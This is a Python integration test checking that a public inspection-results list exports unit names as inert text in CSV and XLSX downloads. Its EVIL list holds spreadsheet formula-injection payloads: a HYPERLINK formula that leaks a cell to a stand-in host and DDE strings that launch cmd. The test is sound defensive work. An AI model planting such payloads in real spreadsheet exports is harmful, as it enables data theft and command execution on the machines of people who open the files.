"""The disclosure list's downloads read back as a spreadsheet would: units registered with names
that are formulas come out as text (CSV: behind a single quote; XLSX: text cells, never formulas);
dates are dates and the revision a number in the XLSX, the USCC stays text. The entries are
drawn units whose records the inspector signs and the leader approves over real HTTP."""
from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import datetime

import httpx
import pytest
from openpyxl import load_workbook

from field_app.ids import uuid7
from schemas import envelope
from sync_server.db.connection import transaction
from tests.support import engine
from tests.integration.conftest import County, server_rows
from tests.support import dates
from tests.support.records import queue_record, record

# Reads today's date (the suite's clock): .ci/run runs it again with the clock moved.
pytestmark = pytest.mark.dates

EVIL = ['=HYPERLINK("http://evil.invalid/?leak="&A1,"查看详情")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


def rename_units(county: County, names: list[str]) -> dict[str, str]:
    """Give the units of the inspector's first assignments these names, as registered before the draw."""
    conn = engine.connect(county.db)
    rows = conn.execute("SELECT a.id, a.doc FROM assignments a JOIN assignment_team t ON t.assignment_id = a.id"
                        " WHERE t.user_id = ? ORDER BY a.seq LIMIT ?", (county.inspector, len(names))).fetchall()
    named = {}
    with transaction(conn):
        for (assignment_id, doc), name in zip(rows, names):
            doc = json.loads(doc)
            doc["unit"]["name"] = name
            conn.execute("UPDATE assignments SET doc = ? WHERE id = ?", (json.dumps(doc, ensure_ascii=False), assignment_id))
            conn.execute("UPDATE units SET name = ? WHERE id = ?", (name, doc["unit"]["id"]))
            named[assignment_id] = doc["unit"]["id"]
    conn.close()
    return named


def publish(county: County, inspector, leader, assignment: dict) -> None:
    doc = record(assignment, [county.inspector])
    queue_record(inspector, doc, [], "2026-11-20T10:00:00Z")
    assert inspector.sync().receipts == {"accepted": 1}
    sha = server_rows(county.db, "SELECT envelope_sha256 FROM records WHERE id = ?", doc["id"])[0][0]
    decision = {"schema": "suijian.review-decision/1", "id": uuid7(), "record_id": doc["id"], "record_envelope_sha256": sha,
                "decision": "approve", "reason": "", "leader": county.leader, "decided_at": dates.now_stamp()}
    text = envelope.sign(decision, envelope.REVIEW_TYPE, leader.keys.private_key()).decode()
    receipt = leader.http.post("/v1/reviews/batch", json={"envelopes": [text]}, headers=leader._auth()).json()
    assert receipt["receipts"][0]["status"] == "accepted", receipt


def test_formula_names_come_out_as_text_and_dates_as_dates(county: County, server, make_device) -> None:
    named = rename_units(county, EVIL)
    inspector, leader = make_device(county.inspector), make_device(county.leader)
    inspector.sync()
    for assignment in inspector.store.list_assignments():
        if assignment["id"] in named:
            publish(county, inspector, leader, assignment)
    usccs = set(named.values())

    text = httpx.get(server.url + "/public/results.csv", timeout=30).text.lstrip("\ufeff")
    rows = [r for r in csv.reader(io.StringIO(text)) if r[2] in usccs]
    assert sorted(r[1] for r in rows) == sorted("'" + name for name in EVIL), "each formula is neutralised"
    inspected, published = dates.inspection_day().isoformat(), dates.today().isoformat()
    assert all(r[6] == inspected and r[10] == published and r[11] == "1" for r in rows), rows

    body = httpx.get(server.url + "/public/results.xlsx", timeout=30).content
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml"), "no formula at all"
    sheet = load_workbook(io.BytesIO(body)).active
    header = [c.value for c in sheet[1]]
    cells = {r[2].value: dict(zip(header, r)) for r in sheet.iter_rows(min_row=2) if r[2].value in usccs}
    assert sorted(c["单位名称"].value for c in cells.values()) == sorted(EVIL)
    for c in cells.values():
        assert c["单位名称"].data_type == "s" and c["统一社会信用代码"].data_type == "s"
        for name in ("检查日期", "公示日期", "应公示日期"):
            assert c[name].is_date and isinstance(c[name].value, datetime), name
        assert c["修订次数"].value == 1 and c["修订次数"].data_type == "n"
        assert c["检查日期"].value.date().isoformat() == next(r[6] for r in rows if r[2] == c["统一社会信用代码"].value)
